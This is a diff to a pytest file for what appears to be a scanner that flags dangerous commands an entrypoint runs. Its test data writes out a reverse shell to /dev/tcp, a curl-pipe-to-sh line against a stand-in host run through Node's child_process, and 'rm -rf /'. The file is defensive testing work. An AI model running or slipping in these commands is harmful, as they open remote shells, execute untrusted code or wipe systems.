@@ -494,13 +494,12 @@ ENTRYPOINTS = {
 def test_what_the_entrypoint_runs_is_looked_at(
     files: dict[str, str], command: list[str], rule: str, place: str
 ) -> None:
-    found = source_findings(
-        [SourceFile(path, text.encode()) for path, text in files.items()], invoked(command)
-    )
+    sources = [SourceFile(path, text.encode()) for path, text in files.items()]
+    alone, found = source_findings(sources), source_findings(sources, invoked(command))
     assert [item.place for item in found if (item.rule, item.severity) == (rule, Severity.CRITICAL)] == [
         place
     ]
-    assert all(item.command for item in found), "and is known to be of this command alone"
+    assert all(item.command for item in found if item not in alone), "and is of this command alone"
 
 
 @pytest.mark.parametrize(
@@ -517,9 +516,9 @@ def test_an_entrypoint_that_runs_what_looks_like_code_adds_nothing() -> None:
 
 
 def test_the_same_files_under_another_entrypoint_are_looked_at_anew() -> None:
-    files = [SourceFile("run.txt", SOCKET_SHELL.encode())]
+    files = [SourceFile("run.txt", b"rm -rf / ")]
     assert not remembered_source_findings(files, invoked(["cat", "run.txt"]))
-    assert remembered_source_findings(files, invoked(["python", "run.txt"]))[0].rule == "reverse-shell"
+    assert remembered_source_findings(files, invoked(["bash", "run.txt"]))[0].rule == "destruction"
 
 
 @pytest.mark.parametrize(
@@ -527,14 +526,14 @@ def test_the_same_files_under_another_entrypoint_are_looked_at_anew() -> None:
     [
         (["sh", "-c", "$C"], {"C": "bash -i >& /dev/tcp/10.0.0.1/4 0>&1"}),
         (["sh", "-c", '"${P}" -c "$C"'], {"P": "python", "C": SOCKET_SHELL}),
-        (["python", "$F"], {"F": "data.csv"}),
+        (["bash", "$F"], {"F": "data.csv"}),
         (["python", "main.py"], {"STEP": SOCKET_SHELL}),
         (["node", "main.js"], {"STEP": "require('child_process').exec('curl -s https://x.example/i | sh')"}),
     ],
     ids=["a text of a shell", "a command in parts", "a file by its name", "Python", "JavaScript"],
 )
 def test_what_a_variable_says_is_looked_at(command: list[str], env: dict[str, str]) -> None:
-    files = [SourceFile("data.csv", SOCKET_SHELL.encode()), SourceFile("main.py", b"print(1)")]
+    files = [SourceFile("data.csv", REVERSE_SHELL.encode()), SourceFile("main.py", b"print(1)")]
     grave = [
         item for item in source_findings(files, invoked(command, **env)) if item.severity is Severity.CRITICAL
     ]
